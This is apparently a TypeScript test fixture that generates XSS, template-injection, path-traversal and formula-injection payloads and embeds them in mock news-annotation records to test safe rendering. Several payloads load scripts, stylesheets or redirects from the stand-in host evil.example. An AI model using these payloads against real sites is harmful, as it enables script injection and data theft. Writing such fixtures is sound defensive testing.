/** Texts that would be programs, links or markup if a page took them for more than text, in names, sentences, titles and addresses. */

const CODE = "window.pwned=1,alert(1)";

const EVENTS = ["onload", "onerror", "onclick", "onfocus autofocus", "onmouseover", "ontoggle", "onpointerenter", "onanimationstart", "onbegin", "onscroll"];
const ELEMENTS = ["img src=x", "svg", "body", "iframe", "video src=x", "details open", "input", "math", "marquee", "object data=x", "audio src=x", "style"];
const SCHEMES = ["javascript:", "JaVaScRiPt:", "java\tscript:", " javascript:", "javascript://%0a", "vbscript:", "data:text/html,", "data:image/svg+xml,", "file:///", "blob:", "//evil.example/", "\\\\evil.example\\"];
const QUOTES = ["'", '"', "`", "'>", '">', "`>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "*/", "\\", "\\\\'", "&quot;>", "&#39;>", "%22%3E"];
const TEMPLATES = ["{{constructor.constructor('CODE')()}}", "${CODE}", "#{CODE}", "<%= CODE %>", "{%raw%}CODE", "[[CODE]]", "@{CODE}", "{{7*7}}", "$(CODE)", "`CODE`", "{CODE}", "<?php CODE ?>"];
const WHOLE = [
  `<script>CODE</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>CODE</scr</script>ipt>`, `<svg><script>CODE</script></svg>`, `<svg><animate onbegin=CODE attributeName=x>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=CODE>#x">`, `<math><maction actiontype=statusline xlink:href=javascript:CODE>x`, `<a href="javascript:CODE">x</a>`, `<form action=javascript:CODE><button>x`, `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`, `<link rel=stylesheet href=//evil.example/x.css>`, `<img src=//evil.example/x.png>`, `<style>@import "//evil.example/x.css";</style>`, `<div style="background:url(//evil.example/x)">`,
  `<iframe srcdoc="<script>parent.CODE</script>">`, `<object data="data:text/html,<script>CODE</script>">`, `<embed src=//evil.example/x>`, `<template><img src=x onerror=CODE></template>`, `<noscript><p title="</noscript><img src=x onerror=CODE>">`,
  `<textarea autofocus onfocus=CODE>`, `<select onfocus=CODE autofocus>`, `<xmp><p title="</xmp><svg/onload=CODE>">`, `<!--><img src=x onerror=CODE>-->`, `<![CDATA[<img src=x onerror=CODE>]]>`,
  `\u202eexe.txt<img src=x onerror=CODE>\u202c`, `\u2066CODE\u2069`, `a\u200bb\ufeffc<b>`, `＜script＞CODE＜/script＞`, `\u003cscript\u003eCODE`,
  `%3Cscript%3ECODE%3C/script%3E`, `&lt;script&gt;CODE&lt;/script&gt;`, `&#60;script&#62;CODE`, `+ADw-script+AD4-CODE`, `<ſcript>CODE</ſcript>`,
  `__proto__`, `constructor`, `hasOwnProperty`, `toString`, `prototype`, `null`, `undefined`, `NaN`, `[object Object]`, `../../etc/passwd`, `C:\\nul`, `=HYPERLINK("//evil.example")`, `@SUM(1)`, `-1+1`,
  `?x } ; DROP ALL #`, `"^^xsd:string . ?s ?p ?o`, `> <https://evil.example/`, `');CODE//`, `";CODE//`, `\`;CODE//`, `</svg><script>CODE</script>`, `url(javascript:CODE)`, `expression(CODE)`, `<video><source onerror=CODE>`, `<input onblur=CODE autofocus><input autofocus>`, `<a href=//evil.example target=_blank>x</a>`, `<x contenteditable onblur=CODE>x`,
];

export const PAYLOADS: readonly string[] = [
  ...ELEMENTS.flatMap((element, index) => EVENTS.slice(index % 5, (index % 5) + 4).map((event) => `<${element} ${event.replace(/^(\S+)/, `$1=${CODE}`)}>`)),
  ...SCHEMES.map((scheme) => `${scheme}${CODE}`),
  ...QUOTES.map((quote) => `${quote}<img src=x onerror=${CODE}>`),
  ...TEMPLATES.map((template) => template.replace("CODE", CODE)),
  ...WHOLE.map((text) => text.replaceAll("CODE", CODE)),
];

/** An article whose title, address, outlet and sentence all carry a payload, and which ties a company of that name to another. */
export function toAnnotation(payload: string, number: number): object {
  const other = `Partner ${number}`;
  const evidence = `${payload} owns 34% of ${other}.`;
  return {
    id: `hostile-${number}`,
    title: payload,
    date: "2024-08-01",
    url: SCHEMES[number % SCHEMES.length] + CODE,
    outlet: payload,
    entities: [{ key: "a", name: payload, aliases: [] }, { key: "b", name: other, aliases: [] }],
    claims: [{ type: "stake", owner: "a", owned: "b", status: "completed", percent: 34, evidence, confidence: 0.9 }],
  };
}
